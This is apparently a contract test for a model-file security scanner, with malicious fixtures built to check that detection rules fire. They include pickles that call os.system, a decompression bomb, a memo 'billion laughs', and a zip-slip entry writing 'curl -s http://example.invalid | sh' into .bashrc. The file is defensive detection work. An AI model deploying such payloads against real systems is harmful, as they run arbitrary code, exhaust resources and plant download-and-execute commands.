/**
 * The contract every scan rule must meet, checked over the whole registry so that a new rule cannot skip it:
 * a well-formed id, its source file at src/scan/rules/<id>.ts, a documentation page at docs/rules/<id>.md,
 * complete metadata, and a positive and a negative (near-miss) fixture in FIXTURES below, both run through
 * scanBytes. A rule in SCAN_RULES with no FIXTURES entry fails here.
 */
import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import { formatLocation } from '../../src/core/finding.ts';
import type { ScanResult } from '../../src/core/result.ts';
import { ruleDocPath } from '../../src/core/rule.ts';
import { GATEWAY_RULES } from '../../src/gateway/filter/rules.ts';
import { GUARD_DETECTORS } from '../../src/guard/detectors/index.ts';
import { transformerClassifierMeta } from '../../src/guard/onnx/transformer-classifier.ts';
import { PROBE_RULE_METAS } from '../../src/probe/findings.ts';
import { SANDBOX_RULE_METAS } from '../../src/sandbox/findings.ts';
import { scanBytes } from '../../src/scan/engine.ts';
import { SCAN_RULES } from '../../src/scan/rules/index.ts';
import { torchStateDictPickle } from '../fixtures/checkpoints.ts';
import { type ContractFixture, EXTRA_FIXTURES, type FixtureBytes } from '../fixtures/contract/index.ts';
import { PAGE_SECTIONS } from '../fixtures/finding-pages.ts';
import { buildNpy } from '../fixtures/npy-writer.ts';
import { concat, pickle, reducePayload } from '../fixtures/pickle-writer.ts';
import { buildZip } from '../fixtures/zip-writer.ts';

const ROOT = new URL('../../', import.meta.url);
const read = (path: string): string => readFileSync(new URL(path, ROOT), 'utf8');
const exists = (path: string): boolean => existsSync(new URL(path, ROOT));
const enc = (s: string): Uint8Array => new TextEncoder().encode(s);

type Bytes = FixtureBytes;

/** `levels` nested lists, each holding the previous one ten times through the memo (10^levels elements). */
function memoLaughs(levels: number): Uint8Array {
  const w = pickle().proto(4).unicode('lol').binput(0).pop();
  for (let level = 1; level <= levels; level++) {
    w.mark();
    for (let i = 0; i < 10; i++) w.binget(level - 1);
    w.list().binput(level);
    if (level < levels) w.pop();
  }
  return w.stop().bytesOut();
}

/** `{'epochs': 10}` at protocol 4 inside one FRAME that declares `declared` bytes (honest: the body length). */
function framedPickle(declared?: number): Uint8Array {
  const body = pickle().emptyDict().memoize().unicode('epochs').memoize().int(10).setitem().stop().bytesOut();
  return concat(
    pickle()
      .proto(4)
      .frame(declared ?? body.length)
      .bytesOut(),
    body,
  );
}

/** The torch layout with `data.pkl`'s local header optionally naming it differently (CVE-2025-1944). */
function torchLayoutZip(localName?: string): Uint8Array {
  return buildZip(
    [
      localName === undefined
        ? { name: 'archive/data.pkl', data: torchStateDictPickle(1) }
        : { name: 'archive/data.pkl', localName, data: torchStateDictPickle(1) },
      { name: 'archive/byteorder', data: enc('little') },
      { name: 'archive/data/0', data: new Uint8Array(64) },
      { name: 'archive/data/1', data: new Uint8Array(16) },
      { name: 'archive/version', data: enc('3\n') },
    ],
    { align: 64 },
  );
}

/**
 * One positive and one negative fixture per rule, keyed by rule id. The positive must produce at least one
 * finding with that id (at the rule's default severity); the negative is the closest benign variant and must
 * produce none. Both must be analysed completely (scanned, no errors).
 */
const PICKLE_FAMILY_FIXTURES: Record<string, ContractFixture> = {
  'model/pickle-dangerous-call': {
    // os.system("id") via GLOBAL + REDUCE, vs. the same call shape on the allow-listed builtins.str.
    positive: () => reducePayload('os', 'system', ['id']),
    negative: () => reducePayload('builtins', 'str', ['id']),
  },
  'model/pickle-dangerous-import': {
    // defaultdict(os.system): os.system is imported but only called later, by a missing key; vs. defaultdict(list).
    positive: () =>
      pickle()
        .proto(2)
        .global('collections', 'defaultdict')
        .global('os', 'system')
        .tuple1()
        .reduce()
        .stop()
        .bytesOut(),
    negative: () =>
      pickle()
        .proto(2)
        .global('collections', 'defaultdict')
        .global('builtins', 'list')
        .tuple1()
        .reduce()
        .stop()
        .bytesOut(),
  },
  'model/pickle-unknown-import': {
    // A class from a package on no list, vs. a class under an allow-listed prefix (sklearn.), rebuilt the same way.
    positive: () =>
      pickle()
        .proto(2)
        .global('mypackage.models', 'TinyNet')
        .emptyTuple()
        .newobj()
        .emptyDict()
        .build()
        .stop()
        .bytesOut(),
    negative: () =>
      pickle()
        .proto(2)
        .global('sklearn.linear_model._logistic', 'LogisticRegression')
        .emptyTuple()
        .newobj()
        .emptyDict()
        .build()
        .stop()
        .bytesOut(),
  },
  'model/pickle-unresolved-callable': {
    // modelscan #338: a bytes STACK_GLOBAL operand (type confusion), vs. the same STACK_GLOBAL with str operands.
    positive: () =>
      pickle()
        .proto(4)
        .bytes('collections')
        .unicode('OrderedDict')
        .stackGlobal()
        .emptyTuple()
        .reduce()
        .stop()
        .bytesOut(),
    negative: () =>
      pickle()
        .proto(4)
        .unicode('collections')
        .unicode('OrderedDict')
        .stackGlobal()
        .emptyTuple()
        .reduce()
        .stop()
        .bytesOut(),
  },
  'model/pickle-global-mutation': {
    // modelscan #85: BUILD sets attributes on the imported numpy.prod, vs. BUILD on a freshly created OrderedDict.
    positive: () =>
      pickle()
        .proto(2)
        .global('numpy', 'prod')
        .none()
        .emptyDict()
        .unicode('a')
        .unicode('os')
        .setitem()
        .tuple2()
        .build()
        .stop()
        .bytesOut(),
    negative: () =>
      pickle()
        .proto(2)
        .global('collections', 'OrderedDict')
        .emptyTuple()
        .reduce()
        .none()
        .emptyDict()
        .unicode('a')
        .unicode('os')
        .setitem()
        .tuple2()
        .build()
        .stop()
        .bytesOut(),
  },
  'model/pickle-frame-mismatch': {
    // CPython gh-154848: a 3-byte FRAME that ends inside SHORT_BINUNICODE, vs. the honest frame pickle.dumps writes.
    positive: () => framedPickle(3),
    negative: () => framedPickle(),
  },
  'model/pickle-resource-exhaustion': {
    // Billion laughs: 9 levels of 10 memo references (10^9 elements), vs. 3 levels (1,000: ordinary sharing).
    positive: () => memoLaughs(9),
    negative: () => memoLaughs(3),
  },
  'model/pickle-malformed': {
    // A torch state dict cut off before its STOP, vs. the complete one.
    positive: () => {
      const sd = torchStateDictPickle();
      return sd.subarray(0, sd.length - 1);
    },
    negative: () => torchStateDictPickle(),
  },
  'model/pickle-embedded-payload': {
    // A dict whose bytes value is a pickle calling os.system, vs. a dict with an ordinary long description.
    positive: () =>
      pickle()
        .proto(2)
        .emptyDict()
        .unicode('note')
        .bytes(reducePayload('os', 'system', ['id']))
        .setitem()
        .stop()
        .bytesOut(),
    negative: () =>
      pickle()
        .proto(2)
        .emptyDict()
        .unicode('description')
        .unicode('A 3-layer MLP trained on MNIST; see the model card for evaluation details.')
        .setitem()
        .stop()
        .bytesOut(),
  },
  'model/archive-parser-differential': {
    // CVE-2025-1944: data.pkl's local header says "datap.kl", vs. the same torch layout with matching headers.
    positive: () => torchLayoutZip('archive/datap.kl'),
    negative: () => torchLayoutZip(),
  },
  'model/archive-path-traversal': {
    // Zip-slip: an entry two levels above the root, vs. the same entries nested normally.
    positive: () =>
      buildZip([
        { name: 'archive/data.pkl', data: torchStateDictPickle(1) },
        { name: '../../.bashrc', data: enc('curl -s http://example.invalid | sh\n') },
      ]),
    negative: () =>
      buildZip([
        { name: 'checkpoints/epoch-3/archive/data.pkl', data: torchStateDictPickle(1) },
        { name: 'checkpoints/epoch-3/notes/run.txt', data: enc('lr=0.1\n') },
      ]),
  },
  'model/archive-bomb': {
    // 32 MiB of zeros deflated to ~32 KiB (about 1000:1) beside a checkpoint, vs. the same layout with the
    // zeros stored: the bytes are identical once extracted, only the inflation ratio differs.
    positive: () =>
      buildZip([
        { name: 'archive/data.pkl', data: torchStateDictPickle(1) },
        { name: 'archive/padding.bin', data: new Uint8Array(32 << 20), method: 'deflate' },
      ]),
    negative: () =>
      buildZip([
        { name: 'archive/data.pkl', data: torchStateDictPickle(1) },
        { name: 'archive/padding.bin', data: new Uint8Array(32 << 20), method: 'store' },
      ]),
  },
  'model/numpy-object-array': {
    // np.save of an object array (its data section is a harmless pickle of two strings), vs. a float32 array.
    positive: () =>
      buildNpy({
        descr: '|O',
        shape: [2],
        data: pickle().proto(3).emptyList().mark().unicode('cat').unicode('dog').appends().stop().bytesOut(),
      }),
    negative: () =>
      buildNpy({ descr: '<f4', shape: [2, 2], data: new Uint8Array(new Float32Array([1, 2, 3, 4]).buffer) }),
  },
};

/** Every rule's fixtures: the pickle family's above, the other formats' from test/fixtures/contract/. */
const FIXTURES: Record<string, ContractFixture> = { ...PICKLE_FAMILY_FIXTURES, ...EXTRA_FIXTURES };

const ID = /^[a-z]+\/[a-z0-9]+(-[a-z0-9]+)*$/;

function describeResult(result: ScanResult): string {
  const lines = result.findings.map(
    (f) => `${f.severity} ${f.ruleId} ${formatLocation(f.location)}: ${f.message}`,
  );
  return `findings:\n  ${lines.join('\n  ') || '(none)'}\nerrors: ${JSON.stringify(result.errors)}`;
}

async function scanFixture(bytes: Bytes, path: string): Promise<ScanResult> {
  const result = await scanBytes(await bytes(), path);
  assert.deepEqual(result.scanned, [path], `${path} was not analysed: ${JSON.stringify(result.skipped)}`);
  assert.deepEqual(result.errors, [], `${path} was not analysed completely\n${describeResult(result)}`);
  return result;
}

test('the registry is not empty and every id is unique', () => {
  const ids = SCAN_RULES.all.map((r) => r.meta.id);
  assert.ok(ids.length > 0);
  assert.equal(new Set(ids).size, ids.length);
});

for (const rule of SCAN_RULES.all) {
  const { meta } = rule;
  const { id } = meta;

  test(`${id}: id is domain/kebab-name and names its source file`, () => {
    assert.match(id, ID);
    const source = `src/scan/rules/${id}.ts`;
    assert.ok(exists(source), `${source} does not exist`);
    assert.ok(read(source).includes(`id: '${id}'`), `${source} does not declare id '${id}'`);
  });

  test(`${id}: metadata is complete`, () => {
    assert.ok(meta.title.trim().length > 0, 'empty title');
    assert.ok(meta.fix.trim().length > 0, 'empty fix');
    assert.ok(meta.tags.length > 0, 'no tags');
    assert.ok(
      meta.tags.every((t) => t.trim().length > 0),
      'blank tag',
    );
    assert.ok(meta.references.length > 0, 'no references');
    for (const ref of meta.references) assert.match(ref, /^https:\/\/\S+$/, `reference ${ref} is not a URL`);
  });

  test(`${id}: has a documentation page that matches its metadata`, () => {
    const page = ruleDocPath(id);
    assert.equal(page, `docs/rules/${id}.md`);
    assert.ok(exists(page), `${page} does not exist`);
    const text = read(page);
    const [first] = text.split('\n');
    assert.ok(first?.startsWith(`# ${id}`), `${page} must start with "# ${id}", starts with ${first}`);
    assert.ok(first?.includes(meta.title), `${page}'s title line does not contain "${meta.title}"`);
    for (const section of PAGE_SECTIONS)
      assert.ok(text.includes(`\n${section}\n`), `${page} has no "${section}"`);
    assert.ok(text.includes(`**${meta.severity}**`), `${page} does not state severity ${meta.severity}`);
    for (const tag of meta.tags) assert.ok(text.includes(tag), `${page} does not list tag ${tag}`);
    for (const ref of meta.references) assert.ok(text.includes(ref), `${page} does not list ${ref}`);
    const example = text.slice(text.indexOf('\n## Example\n'), text.indexOf('\n## False positives\n'));
    assert.ok(example.includes(id), `${page}'s Example shows no finding of ${id}`);
  });

  test(`${id}: has a positive and a negative fixture`, async (t) => {
    const fixtures = FIXTURES[id];
    const name = fixtures?.name;
    assert.ok(fixtures, `no FIXTURES entry for ${id}: add a positive and a near-miss negative fixture`);

    await t.test('positive fixture produces it', async () => {
      const result = await scanFixture(fixtures.positive, name ?? 'positive.bin');
      const hits = result.findings.filter((f) => f.ruleId === id);
      assert.ok(hits.length > 0, `expected ${id}\n${describeResult(result)}`);
      assert.ok(
        hits.some((f) => f.severity === meta.severity),
        `no ${id} finding at its default severity ${meta.severity}\n${describeResult(result)}`,
      );
      for (const f of hits) assert.ok(f.message.length > 0, 'empty finding message');
    });

    await t.test('negative (near-miss) fixture does not', async () => {
      const result = await scanFixture(fixtures.negative, name ?? 'negative.bin');
      const hits = result.findings.filter((f) => f.ruleId === id);
      assert.deepEqual(hits, [], `unexpected ${id}\n${describeResult(result)}`);
    });
  });
}

test('FIXTURES has no entry for a rule that is not registered', () => {
  const stale = Object.keys(FIXTURES).filter((id) => SCAN_RULES.get(id) === undefined);
  assert.deepEqual(stale, []);
});

test('docs/rules/README.md indexes every rule, and every page belongs to a rule', () => {
  const index = read('docs/rules/README.md');
  for (const { meta } of SCAN_RULES.all) {
    assert.ok(index.includes(`](${meta.id}.md)`), `docs/rules/README.md does not link ${meta.id}`);
  }
  const pages = readdirSync(new URL('docs/rules/', ROOT), { recursive: true, encoding: 'utf8' })
    .map((p) => p.replaceAll('\\', '/'))
    .filter((p) => p.endsWith('.md') && p !== 'README.md');
  // Guard detectors (docs/rules/guard/) have their own contract in test/guard/detector-contract.test.ts,
  // the gateway's rules (docs/rules/gateway/) theirs in test/gateway/filter-rules.test.ts, the probe's findings
  // (docs/rules/probe/) theirs in test/probe.
  const guardIds = new Set([
    ...GUARD_DETECTORS.map((d) => d.meta.id),
    transformerClassifierMeta.id,
    ...GATEWAY_RULES.map((r) => r.id),
    // Live probe findings (docs/rules/probe/): their pages are checked in test/probe.
    ...PROBE_RULE_METAS.map((m) => m.id),
    // Sandbox findings (docs/rules/sandbox/): their pages are checked in test/sandbox.
    ...SANDBOX_RULE_METAS.map((m) => m.id),
  ]);
  for (const id of guardIds)
    assert.ok(index.includes(`](${id}.md)`), `docs/rules/README.md does not link ${id}`);
  const orphans = pages.filter((p) => {
    const id = p.slice(0, -'.md'.length);
    return SCAN_RULES.get(id) === undefined && !guardIds.has(id);
  });
  assert.deepEqual(orphans, [], 'pages under docs/rules/ with no registered rule');
});
